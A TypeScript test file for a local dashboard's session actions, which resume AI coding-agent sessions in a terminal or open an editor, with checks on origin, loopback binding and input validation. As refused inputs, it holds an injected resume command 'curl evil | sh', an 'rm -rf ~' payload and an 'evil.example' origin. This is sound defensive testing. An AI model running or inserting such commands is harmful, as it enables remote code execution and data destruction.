import { mkdir, realpath } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { SessionDetail } from '../../../src/core/session.js';
import { notSameOrigin } from '../../../src/sinks/http/routes/actions.js';
import { detail } from './helpers.js';
import { fakeProgram, makeDashboard, recorded, type DashboardHarness } from './dashboard-fixture.js';

/**
 * The session actions against fake programs on a PATH of their own: the fake terminal really runs
 * what it is given, so the tests see the agent's resume command start in the session's directory.
 */

let harness: DashboardHarness | undefined;
afterEach(async () => {
  await harness?.close();
  harness = undefined;
});

const SESSION = 'f3b1c2d4-aaaa-4bbb-8ccc-1234567890ab';

/** A harness whose session's cwd is a real directory inside its temp root. */
const withSession = async (overrides: Partial<SessionDetail> = {}, options: Parameters<typeof makeDashboard>[0] = {}): Promise<{ h: DashboardHarness; cwd: string }> => {
  let cwd = '';
  const h = await makeDashboard({
    ...options,
    sessions: async (root) => {
      cwd = path.join(await realpath(root), 'projects', 'shop app');
      await mkdir(cwd, { recursive: true });
      return [detail({ session_id: SESSION, cwd, resume_command: `claude --resume ${SESSION}`, ...overrides })];
    },
  });
  return { h, cwd: overrides.cwd ?? cwd };
};

const post = (h: DashboardHarness, action: string, headers: Record<string, string> = {}, id = SESSION) =>
  h.app.inject({ method: 'POST', url: `/api/sessions/${encodeURIComponent(id)}/actions/${action}`, headers: { ...h.auth(), ...headers } });

describe('notSameOrigin', () => {
  it.each([
    [{ 'sec-fetch-site': 'same-origin', host: '127.0.0.1:7421' }, undefined],
    [{ host: '127.0.0.1:7421' }, undefined],
    [{ origin: 'http://127.0.0.1:7421', host: '127.0.0.1:7421' }, undefined],
    [{ 'sec-fetch-site': 'cross-site', host: '127.0.0.1:7421' }, 'Sec-Fetch-Site: cross-site'],
    [{ 'sec-fetch-site': 'same-site', host: '127.0.0.1:7421' }, 'Sec-Fetch-Site: same-site'],
    [{ 'sec-fetch-site': 'none', host: '127.0.0.1:7421' }, 'Sec-Fetch-Site: none'],
    [{ origin: 'http://localhost:3000', host: '127.0.0.1:7421' }, 'Origin: http://localhost:3000'],
    [{ origin: 'null', host: '127.0.0.1:7421' }, 'Origin: null'],
  ])('%j -> %s', (headers, expected) => {
    expect(notSameOrigin(headers)).toBe(expected);
  });
});

describe('POST /api/sessions/:id/actions/resume', () => {
  it('runs the session\'s own resume command in a new terminal, in its directory (xdg-terminal-exec first)', async () => {
    const { h, cwd } = await withSession();
    harness = h;
    await fakeProgram(h, 'xdg-terminal-exec', { exec: true });
    await fakeProgram(h, 'x-terminal-emulator');
    await fakeProgram(h, 'claude');
    const res = await post(h, 'resume', { 'sec-fetch-site': 'same-origin' });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ ok: true, terminal: 'xdg-terminal-exec', command: `claude --resume ${SESSION}`, cwd });
    const terminal = await recorded(h, 'xdg-terminal-exec');
    expect(terminal.argv.slice(0, 2)).toEqual(['/bin/sh', '-c']);
    expect(terminal.argv.slice(3)).toEqual(['agentwatch', cwd, 'claude', '--resume', SESSION]);
    // What the terminal ran: the agent, with exactly its resume arguments, in the session's directory.
    expect(await recorded(h, 'claude')).toEqual({ cwd, argv: ['--resume', SESSION] });
  });

  it('falls back to x-terminal-emulator, then common emulators; kitty when chosen', async () => {
    const { h, cwd } = await withSession();
    harness = h;
    await fakeProgram(h, 'x-terminal-emulator');
    await fakeProgram(h, 'kitty');
    expect((await post(h, 'resume')).json().terminal).toBe('x-terminal-emulator');
    expect((await recorded(h, 'x-terminal-emulator')).argv.slice(0, 3)).toEqual(['-e', '/bin/sh', '-c']);
    await h.app.inject({ method: 'PUT', url: '/api/config', headers: h.auth(), payload: { terminal: 'kitty' } });
    expect((await post(h, 'resume')).json().terminal).toBe('kitty');
    const kitty = await recorded(h, 'kitty');
    expect(kitty.argv.slice(0, 3)).toEqual(['--directory', cwd, '/bin/sh']);
    expect(kitty.argv.slice(-3)).toEqual(['claude', '--resume', SESSION]);
  });

  it('macOS: Terminal.app through osascript, or one kitty instance group raised after launch', async () => {
    const { h, cwd } = await withSession({}, { platform: 'darwin' });
    harness = h;
    await fakeProgram(h, 'osascript');
    expect((await post(h, 'resume')).json().terminal).toBe('Terminal');
    const script = (await recorded(h, 'osascript')).argv;
    expect(script).toEqual(['-e', 'tell application "Terminal"', '-e', `do script "cd '${cwd}' && 'claude' '--resume' '${SESSION}'"`, '-e', 'activate', '-e', 'end tell']);
  });

  it('refuses unless bound to loopback, and cross-origin requests, before anything runs', async () => {
    const { h } = await withSession({}, { host: '0.0.0.0' });
    harness = h;
    await fakeProgram(h, 'xdg-terminal-exec');
    const remote = await post(h, 'resume');
    expect(remote.statusCode).toBe(403);
    expect(remote.json().error).toMatch(/loopback/);
    await h.close();
    const local = await withSession();
    harness = local.h;
    await fakeProgram(local.h, 'xdg-terminal-exec');
    const foreign: Record<string, string>[] = [{ 'sec-fetch-site': 'cross-site' }, { 'sec-fetch-site': 'same-site' }, { origin: 'http://evil.example' }];
    for (const headers of foreign) {
      const res = await post(local.h, 'resume', headers);
      expect(res.statusCode).toBe(403);
      expect(res.json().error).toMatch(/cross-origin request refused/);
    }
    expect((await post(local.h, 'resume', {}, SESSION)).statusCode).toBe(200);
    // The same-origin request did start the (detached) terminal: waited for, so it is done before the temp dir goes.
    expect((await recorded(local.h, 'xdg-terminal-exec')).argv.slice(0, 2)).toEqual(['/bin/sh', '-c']);
    expect((await local.h.app.inject({ method: 'POST', url: `/api/sessions/${SESSION}/actions/resume` })).statusCode).toBe(401);
  });

  it('takes no input, and refuses unknown sessions, missing directories and odd resume commands', async () => {
    const { h } = await withSession();
    harness = h;
    await fakeProgram(h, 'xdg-terminal-exec');
    const withBody = await h.app.inject({ method: 'POST', url: `/api/sessions/${SESSION}/actions/resume`, headers: h.auth(), payload: { command: 'rm -rf ~' } });
    expect(withBody.statusCode).toBe(400);
    expect(withBody.json().error).toMatch(/takes no input/);
    expect((await post(h, 'resume', {}, 'nope')).statusCode).toBe(404);
    await h.close();
    const gone = await withSession({ cwd: '/nonexistent/agentwatch/dir' });
    harness = gone.h;
    expect((await post(gone.h, 'resume')).json().error).toMatch(/does not exist on this machine/);
    await gone.h.close();
    const odd = await withSession({ resume_command: 'claude --resume x; curl evil | sh' });
    harness = odd.h;
    await fakeProgram(odd.h, 'xdg-terminal-exec');
    const refused = await post(odd.h, 'resume');
    expect(refused.statusCode).toBe(409);
    expect(refused.json().error).toMatch(/characters a resume command never has/);
    // Every agent's descriptor gives a resume command; the sessions that have none (sub-agents)
    // are never listed or found, so the route's "no resume command" answer needs no case here.
    await odd.h.close();
    const fallback = await withSession({ agent: 'grok', resume_command: '' });
    harness = fallback.h;
    const shown = (await fallback.h.app.inject({ url: `/api/sessions/${SESSION}`, headers: fallback.h.auth() })).json();
    expect(shown.resume_command).toBe(`grok --resume ${SESSION}`);
  });

  it('says when no terminal is installed', async () => {
    const { h } = await withSession();
    harness = h;
    const res = await post(h, 'resume');
    expect(res.statusCode).toBe(409);
    expect(res.json().error).toMatch(/^no terminal found/);
  });
});

describe('POST /api/sessions/:id/actions/editor', () => {
  it('opens the directory in a windowed editor from the config, else $VISUAL / $EDITOR', async () => {
    const { h, cwd } = await withSession({}, { env: { VISUAL: 'zed --new' } });
    harness = h;
    await fakeProgram(h, 'zed');
    await fakeProgram(h, 'code');
    const res = await post(h, 'editor');
    expect(res.json()).toEqual({ ok: true, editor: 'zed', from: '$VISUAL', cwd });
    expect(await recorded(h, 'zed')).toEqual({ cwd, argv: ['--new', cwd] });
    await h.app.inject({ method: 'PUT', url: '/api/config', headers: h.auth(), payload: { editor: 'code --reuse-window' } });
    expect((await post(h, 'editor')).json().from).toBe('config "editor"');
    expect(await recorded(h, 'code')).toEqual({ cwd, argv: ['--reuse-window', cwd] });
  });

  it('a terminal editor opens in a new terminal', async () => {
    const { h, cwd } = await withSession({}, { env: { EDITOR: 'nvim' } });
    harness = h;
    await fakeProgram(h, 'xdg-terminal-exec', { exec: true });
    await fakeProgram(h, 'nvim');
    const res = await post(h, 'editor');
    expect(res.json()).toEqual({ ok: true, editor: 'nvim', from: '$EDITOR', terminal: 'xdg-terminal-exec', cwd });
    expect(await recorded(h, 'nvim')).toEqual({ cwd, argv: [cwd] });
  });

  it('says what to set when no editor is configured, or it is not installed', async () => {
    const { h } = await withSession();
    harness = h;
    expect((await post(h, 'editor')).json().error).toMatch(/no editor is set/);
    await h.app.inject({ method: 'PUT', url: '/api/config', headers: h.auth(), payload: { editor: 'subl' } });
    expect((await post(h, 'editor')).json().error).toBe('editor "subl" (from config "editor") was not found on PATH');
  });
});
